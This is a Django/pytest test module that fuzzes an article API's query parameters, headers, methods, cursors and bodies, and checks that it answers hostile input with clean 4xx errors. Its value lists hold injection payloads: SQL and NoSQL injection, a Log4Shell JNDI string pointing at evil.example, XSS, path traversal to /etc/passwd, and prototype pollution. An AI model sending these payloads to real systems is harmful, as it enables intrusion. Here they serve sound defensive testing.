"""Every public address, made from the description, with every hostile value in every place.

The description is what the answers are judged by: a value that it allows is taken, any other one is
a 400. Requests go to the read gate and to Django in turns.
"""

import itertools
import json
import re
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from django.test import Client
from jsonschema import Draft202012Validator, FormatChecker

from api import openapi
from articles.models import Claim, Disclaimer, Person, Source
from cms.gate import ReadGate
from tests import scenarios
from tests.api.hostile import INSIDE, VALUES
from tests.delivery.asking import Given, given
from tests.delivery.test_gate import DJANGO
from tests.partners import accounts

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("connection_of_the_test")]
PRIVATE = ("/api/v1/partner/", "/api/v1/preview/")
MOST_SECONDS = 1.0
CHECKER = FormatChecker()
# Without these there is no answer.
NEEDED = {"search": {"q": "licht"}, "oembed": {"url": "http://testserver/demo/de/sleep-de"}}
# Of the right form, and yet good only if it was given out, or if something has this name.
NOT_BY_FORM = {"cursor", "after", ("changes", "topic")}
# Names that no address has: other frameworks' filters, lists, and columns of ours.
FOREIGN = (
    "id[]", "filter[slug]", "slug__in", "_connector", "_negated", "order_by", "format[]", "where",
    "variant__article__created_by__password", "user__password__startswith", "lang;x", "q[$ne]",
    "__class__", "fields[]", "page[size]", "$where", "lang\u0000", "\u202elang", "LANG", " lang",
)  # fmt: skip


@pytest.fixture
def servers() -> Iterator[Any]:
    """A live text; the gate and Django in turns, without end."""
    scenarios.published()
    return itertools.cycle((ReadGate(DJANGO, cache_bytes=1024 * 1024), DJANGO))


def operations() -> dict[str, dict[str, Any]]:
    paths = openapi.document()["paths"]
    return {path: item["get"] for path, item in paths.items() if not path.startswith(PRIVATE)}


def filled(path: str) -> str:
    """An address of the pattern that is answered."""
    rows = {
        "articles": "sleep-de",
        "claims": Claim.objects.order_by("pk")[0].uid,
        "sources": Source.objects.order_by("pk")[0].uid,
        "disclaimers": Disclaimer.objects.get(key="general").uid,
        "topics": "sleep",
        "people": Person.objects.get(name="Anna Autorin").uid,
    }
    kind = path.removeprefix("/api/v1/").partition("/")[0]
    values = {"identifier": rows.get(kind), "key": "light", "number": 1, "language": "de"}
    return path.format(**values, form="atom")


def said(server: Any, address: str, method: str = "GET", **headers: str) -> Given:
    """The answer, in time, and harmless."""
    began = time.process_time()
    answer = given(server, address, method, **headers)
    assert time.process_time() - began < MOST_SECONDS, (address[:200], headers.keys())
    assert answer.code < 500, (address[:200], answer.body)
    if answer.code >= 400 and method != "HEAD":
        assert answer["Content-Type"] == "application/problem+json", answer
        assert answer["Cache-Control"] == "no-store"
        assert not INSIDE.search(_own_words(answer.body)), answer.body
    return answer


def _own_words(body: bytes) -> str:
    """A problem without what the asker wrote."""
    told = json.loads(body)
    told.pop("instance")
    told["type"] = ""
    told["errors"] = [flaw["message"] for flaw in told["errors"]]
    told["detail"] = told["detail"].partition("Allowed here")[2]
    return str(told)


def fits(schema: dict[str, Any], value: str) -> bool:
    """Whether the description allows a value of a parameter."""
    if schema.get("type") == "array":
        return fits(schema["items"], value)
    if schema.get("type") == "integer":
        if not re.fullmatch("[0-9]{1,6}", value):
            return False
        return schema["minimum"] <= int(value) <= schema["maximum"]
    return bool(Draft202012Validator(schema, format_checker=CHECKER).is_valid(value))


@pytest.mark.parametrize("path", list(operations()))
def test_a_value_is_taken_if_the_description_allows_it(path: str, servers: Any) -> None:
    address, kind = filled(path), path.strip("/").split("/")[-1]
    found = []
    for parameter in operations()[path]["parameters"]:
        if parameter["in"] != "query":
            continue
        name, schema = parameter["name"], parameter["schema"]
        is_by_form = not {name, (kind, name)} & NOT_BY_FORM
        for value in VALUES:
            server = next(servers)
            query = urlencode(NEEDED.get(kind, {}) | {name: value})
            status = said(server, f"{address}?{query}").code
            allowed = {400}
            if fits(schema, value):
                allowed = {200, 404} if is_by_form else {200, 400}
            if status not in allowed and not _goes_with_others(name, value):
                found.append((name, value[:60], status))
    assert found == []


def _goes_with_others(name: str, _value: str) -> bool:
    """`style` and the shaping of JSON belong to a format, which is not asked for here."""
    return name == "style"


@pytest.mark.parametrize("path", list(operations()))
def test_nobody_asks_by_a_name_that_is_not_described(path: str, servers: Any) -> None:
    address, kind = filled(path), path.strip("/").split("/")[-1]
    needed = urlencode(NEEDED.get(kind, {}))
    for name, value in itertools.product(FOREIGN, ("", "1", "a' OR '1'='1")):
        query = f"{needed}&{quote(name)}={quote(value)}"
        assert said(next(servers), f"{address}?{query}").code == 400, name
    for parameter in operations()[path]["parameters"]:
        if parameter["in"] == "query" and parameter["schema"].get("type") != "array":
            doubled = f"{needed}&{parameter['name']}=1&{parameter['name']}=1"
            assert said(next(servers), f"{address}?{doubled}").code == 400


HEADER_VALUES = (
    "", " ", "\x00", "\x7f", "*", ",", ";", '"', "''", "-1", "1e999999", "9" * 5_000, "NaN",
    "\xc3\xbc", "\xff\xfe", "\xe2\x80\xae", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>", "../../etc/passwd", "evil.example", "https://evil.example",
    "x" * 60_000, ", ".join(["a;q=0.1"] * 3_000), 'W/"' * 9_000, "Bearer ", "Bearer " + "a" * 9_000,
    "Basic YTpi", "bytes=0-1", "de;q=1e9", "application/json;q=0", "chunked", "0", "[]", "a[]=1",
)  # fmt: skip
HEADER_NAMES = (
    "accept", "accept_language", "accept_encoding", "accept_charset", "if_none_match", "if_match",
    "if_modified_since", "if_unmodified_since", "if_range", "range", "authorization",
    "idempotency_key", "origin", "access_control_request_method", "x_request_id", "cookie",
    "x_forwarded_for", "x_forwarded_host", "x_forwarded_proto", "forwarded", "x_real_ip",
    "x_http_method_override", "x_preview_token", "content_type", "referer", "user_agent", "expect",
    "upgrade", "via", "x_original_url", "x_rewrite_url",
)  # fmt: skip
ANSWERED = {200, 304, 400, 401, 406, 412, 429}


@pytest.mark.parametrize("path", ["/api/v1/articles/{identifier}/", "/api/v1/search/", "/oembed"])
def test_hostile_headers_one_by_one(path: str, servers: Any) -> None:
    _take_headers(path, servers, HEADER_NAMES, HEADER_VALUES)


@pytest.mark.parametrize("path", list(operations()))
def test_hostile_headers_everywhere(path: str, servers: Any) -> None:
    names = ("accept", "accept_language", "if_none_match", "if_modified_since", "authorization",
             "host", "range", "origin", "x_request_id", "idempotency_key")  # fmt: skip
    _take_headers(path, servers, names, HEADER_VALUES[::5])


def _take_headers(path: str, servers: Any, names: Any, values: Any) -> None:
    kind = path.strip("/").split("/")[-1]
    address = f"{filled(path)}?{urlencode(NEEDED.get(kind, {}))}".rstrip("?")
    for name, value in itertools.product(names, values):
        answer = said(next(servers), address, **{name: value})
        assert answer.code in ANSWERED, (name, value[:60], answer.code)
        given_back = dict(answer.headers).pop("X-Request-ID")
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{7,63}", given_back)
        told = answer.body + str(dict(answer.headers) | {"X-Request-ID": ""}).encode(
            "latin-1", "replace"
        )
        assert b"evil.example" not in told, (name, value[:60])


METHODS = (
    "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "MKCOL", "SEARCH",
    "HEADS", "A" * 300, "GET POST", "__init__", "_allowed_methods", "dispatch",
)  # fmt: skip


@pytest.mark.parametrize("path", list(operations()))
def test_no_other_method_is_known(path: str, servers: Any) -> None:
    address = filled(path)
    for method in METHODS:
        answer = said(next(servers), address, method)
        assert answer.code == 405, (method, answer.code)
        assert answer["Allow"] == "GET, HEAD, OPTIONS"


def test_a_cursor_is_good_where_it_was_given_out(servers: Any) -> None:
    for name in ("two", "three"):
        scenarios.published(name)
    lists = {
        filled(path): "after" if path.endswith("changes/") else "cursor"
        for path, operation in operations().items()
        if {"after", "cursor"} & {row["name"] for row in operation["parameters"]}
    }
    made = {}
    for address in lists:
        page = json.loads(given(DJANGO, f"{address}?lang=de&page_size=1&q=licht").body)
        if "errors" in page:
            page = json.loads(given(DJANGO, f"{address}?lang=de&page_size=1").body)
        made[address] = page.get("cursor") or (page["next"] or "").rpartition("cursor=")[2]
    given_out = [cursor for cursor in made.values() if cursor]
    assert len(given_out) >= 6
    for address, name in lists.items():
        needed = "lang=de&q=licht" if "search" in address else "lang=de"
        own = made[address]
        forged = [cursor for cursor in given_out if cursor != own]
        for cursor in given_out[:2]:
            forged += [cursor[:-1], cursor[1:], cursor + "A", cursor + "=", cursor.swapcase(),
                       cursor[:20] + "A" + cursor[21:], cursor * 2, f" {cursor}", f"{cursor}\n",
                       cursor.replace(cursor[5], "٣"), "A" * 3_000]  # fmt: skip
        for cursor in forged:
            if cursor == own:
                continue
            answer = said(next(servers), f"{address}?{needed}&{urlencode({name: cursor})}")
            assert answer.code == 400, (address, cursor[:50])
        if own:
            assert said(next(servers), f"{address}?{needed}&{urlencode({name: own})}").code == 200


BODIES = (
    b"", b"{", b"[]", b"null", b"0", b'"a"', b"\xff", b"\xef\xbb\xbf{}", "{}".encode("utf-16"),
    b"{" * 30_000, b"[" * 30_000, b'{"a":' * 10_000, b'{"url":' + b"9" * 5_000 + b"}",
    b'{"sequence":1e999999}', b'{"sequence":-1}', b'{"sequence":NaN}', b'{"sequence":true}',
    b'{"from":1,"to":99999999999999999999}', b'{"version":1.5,"accepted_by":"Petra"}',
    b'{"version":1,"accepted_by":"\\ud800 Petra"}', b'{"url":"https://a.example/\\udfff"}',
    b'{"url":"https://a.example/","description":"\\ud83d"}', b'{"description":"\\u0000"}',
    b'{"sequence":1,"action":"updated","note":"\\udc00"}', b'{"code":"\\ud800"}',
    b'{"events":"article.corrected"}', b'{"events":[["article.corrected"]]}', b'{"events":[{}]}',
    b'{"url":{"$ne":""}}', b'{"url":["https://a.example/"]}', b'{"__proto__":{}}',
    b'{"state":"disabled"}', b'{"url":"javascript:alert(1)"}',
    b'{"webhook":"\\ud800' + b"a" * 35 + b'"}',
    b'{"webhook":"' + b"a" * 36 + b'","from":1,"to":1}', b"a=b&c=d", b"x" * 70_000,
)  # fmt: skip
TYPES = ("application/json", "application/json; charset=utf-16", "text/plain", "", "a/b", "\xff",
         "multipart/form-data; boundary=", "application/x-www-form-urlencoded")  # fmt: skip


def test_hostile_bodies_change_nothing() -> None:
    mine = accounts.account()
    asked = 0
    for path, item in openapi.document()["paths"].items():
        for method in {"post", "patch"} & set(item):
            for body, kind in itertools.product(BODIES, TYPES):
                answer = _sent(mine, method, path, body, kind, name=None)
                assert 400 <= answer.status_code < 500, (path, body[:60], kind)
                assert not INSIDE.search(_own_words(answer.content)), answer.content
                asked += 1
    assert asked > 2_000
    assert not mine.partner.endpoints.exists()


def test_hostile_names_of_calls() -> None:
    mine = accounts.account()
    for name in ("", " ", "\x00", "a b", "a" * 256, "\xff", "\x7f", "\xc3\xbc", "a\tb", "é"):
        answer = _sent(mine, "post", "/api/v1/partner/webhooks/", b"{}", "application/json", name)
        assert answer.json()["code"] == "bad_request", name


def _sent(mine: Any, method: str, path: str, body: bytes, kind: str, name: str | None) -> Any:
    headers = {"Authorization": f"Bearer {mine.key.secret}"}
    if name is not None:
        headers["Idempotency-Key"] = name
    return Client(raise_request_exception=False).generic(
        method.upper(),
        path.replace("{identifier}", "00000000-0000-4000-8000-000000000000"),
        body,
        content_type=kind,
        headers=headers,
    )
